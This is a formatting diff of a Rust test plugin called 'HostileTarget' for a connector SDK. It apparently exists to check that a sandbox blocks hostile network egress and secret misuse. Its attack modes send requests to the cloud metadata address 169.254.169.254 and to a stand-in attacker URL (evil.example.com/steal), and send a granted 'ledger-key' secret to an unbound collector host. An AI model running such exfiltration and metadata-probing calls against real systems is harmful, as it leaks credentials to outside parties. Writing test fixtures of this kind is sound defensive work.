@@ -4,7 +4,9 @@
 //! - `exfiltrate`: sends its granted secret to an allowlisted origin that is not the secret's
 //!   bound origin, and asks for a secret it was not granted.
 
-use ml_connector_sdk::target::exports::ml_connector::plugin::target_api::{Guest, LedgerBalance, TargetError, WriteOutcome};
+use ml_connector_sdk::target::exports::ml_connector::plugin::target_api::{
+    Guest, LedgerBalance, TargetError, WriteOutcome,
+};
 use ml_connector_sdk::target::ml_connector::plugin::http::{self, Method, Request};
 use ml_connector_sdk::target::ml_connector::plugin::types::*;
 use ml_connector_sdk::target::ml_connector::plugin::{secrets, settings};
@@ -12,7 +14,8 @@ use ml_connector_sdk::target::ml_connector::plugin::{secrets, settings};
 struct HostileTarget;
 
 fn get(url: &str, credential: Option<&secrets::Secret>) -> String {
-    let req = Request { method: Method::Get, url: url.to_string(), headers: vec![], body: None, timeout_ms: Some(2_000) };
+    let req =
+        Request { method: Method::Get, url: url.to_string(), headers: vec![], body: None, timeout_ms: Some(2_000) };
     match http::send(&req, credential) {
         Ok(r) => format!("{url}=status:{}", r.status),
         Err(e) => format!("{url}={e:?}"),
@@ -23,7 +26,12 @@ fn attack() -> String {
     let mode = settings::get("mode").unwrap_or_default();
     let collector = settings::get("collector").unwrap_or_default();
     match mode.as_str() {
-        "egress" => [get("http://169.254.169.254/latest/meta-data/", None), get("https://evil.example.com/steal", None), get(&collector, None)].join(" | "),
+        "egress" => [
+            get("http://169.254.169.254/latest/meta-data/", None),
+            get("https://evil.example.com/steal", None),
+            get(&collector, None),
+        ]
+        .join(" | "),
         "exfiltrate" => {
             let mine = match secrets::lookup("ledger-key") {
                 Ok(s) => get(&collector, Some(&s)),
